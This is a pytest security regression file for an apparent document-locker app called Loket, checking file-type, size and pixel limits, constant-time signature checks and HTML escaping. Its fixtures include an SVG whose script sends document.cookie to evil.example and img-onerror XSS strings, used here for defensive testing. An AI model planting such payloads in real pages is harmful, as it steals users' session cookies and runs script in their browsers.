"""Attacks that held when Loket was attacked, kept so that they keep holding: disguised and
hostile files, oversized files, a constant-time signature check, and hostile names shown to
operators."""

from __future__ import annotations

import hmac
from pathlib import Path

import pytest

from app.bot import signature
from app.bot.signature import SignatureResult, sign, verify_signature
from app.db import unit_of_work
from app.locker.checks import inspect_file
from app.locker.policy import DocumentRequirement, LockerPolicy
from app.locker.reasons import Reason
from tests.support import files as samples
from tests.support.clients import Dashboard, dash, world
from tests.support.factories import World, add_request, add_resident, ktp_fields

__all__ = ["dash", "world"]  # the fixtures, used by name

POLICY = LockerPolicy()
PHOTO = DocumentRequirement("kk", kinds=("image",))
ANY = DocumentRequirement("kk")
# A Windows program: the "MZ" header, the PE offset, and the DOS stub's message.
EXE = (
    b"MZ\x90\x00\x03"
    + b"\x00" * 55
    + b"\x80\x00\x00\x00"
    + b"This program cannot be run in DOS mode"
)
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script></svg>"
)


def _check(tmp_path: Path, data: bytes, name: str, requirement: DocumentRequirement = ANY):
    path = tmp_path / name
    path.write_bytes(data)
    return inspect_file(path, requirement, POLICY, size_limit=POLICY.size_limit(requirement, None))


@pytest.mark.parametrize("name", ["kk.jpg", "kk.pdf", "kk.png"])
def test_a_program_named_like_a_photo_is_the_wrong_type(tmp_path: Path, name: str) -> None:
    result = _check(tmp_path, EXE, name)
    assert result.verdict.reason == Reason.WRONG_TYPE
    assert result.thumbnail is None


@pytest.mark.parametrize("name", ["kk.svg", "kk.jpg"])
def test_an_svg_with_a_script_is_the_wrong_type(tmp_path: Path, name: str) -> None:
    result = _check(tmp_path, SVG, name, PHOTO)
    assert result.verdict.reason == Reason.WRONG_TYPE
    assert result.thumbnail is None


def test_a_900_megapixel_png_is_refused_before_decoding(tmp_path: Path) -> None:
    result = _check(tmp_path, samples.png_bomb(30_000, 30_000), "bomb.png", PHOTO)
    assert result.verdict.reason == Reason.TOO_MANY_PIXELS
    assert result.thumbnail is None


def test_a_200_mb_file_is_refused_by_its_size_without_reading_it(tmp_path: Path) -> None:
    path = tmp_path / "huge.pdf"
    with path.open("wb") as sparse:  # 200 MB on paper, no blocks on disk
        sparse.write(samples.pdf())
        sparse.truncate(200 * 1024 * 1024)
    limit = POLICY.size_limit(ANY, "document")
    result = inspect_file(path, ANY, POLICY, size_limit=limit)
    assert result.verdict.reason == Reason.TOO_LARGE
    assert result.verdict.detail == {"limit": limit, "size": 200 * 1024 * 1024}


def test_every_signature_goes_through_the_constant_time_comparison(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """No timing difference: wrong signatures differing early or late are both compared whole
    by `hmac.compare_digest` (timing itself is not measured: that would be a flaky test)."""
    compared: list[tuple[str, str]] = []
    constant_time = hmac.compare_digest

    def recording(a: str, b: str) -> bool:
        compared.append((a, b))
        return constant_time(a, b)

    monkeypatch.setattr(signature.hmac, "compare_digest", recording)
    secret, body = b"test-app-secret", b'{"object":"whatsapp_business_account"}'
    good = sign(secret, body)
    digest = good.removeprefix("sha256=")
    early = "sha256=" + ("0" if digest[0] != "0" else "1") + digest[1:]
    late = "sha256=" + digest[:-1] + ("0" if digest[-1] != "0" else "1")
    assert verify_signature(secret, body, good) == SignatureResult.VALID
    assert verify_signature(secret, body, early) == SignatureResult.INVALID
    assert verify_signature(secret, body, late) == SignatureResult.INVALID
    assert len(compared) == 3
    assert all(len(given) == len(expected) == 64 for given, expected in compared)


HOSTILE_NAME = '<img src=x onerror="alert(1)">Siti'


async def test_a_hostile_resident_name_is_shown_escaped(dash: Dashboard, world: World) -> None:
    async with unit_of_work(dash.sessionmaker) as session:
        resident = await add_resident(session, "6281299990001", HOSTILE_NAME)
        await add_request(
            session,
            ticket="KTP-261120-0099",
            resident=resident,
            office_id=world.offices["DESA-A1"],
            fields=ktp_fields("3201014508900003", HOSTILE_NAME),
        )
    await dash.sign_in("desa_a1")
    for path in ("/dashboard/", "/dashboard/requests/KTP-261120-0099"):
        page = await dash.client.get(path)
        assert page.status_code == 200, path
        assert "<img src=x" not in page.text, path
        assert "&lt;img src=x onerror=" in page.text, path
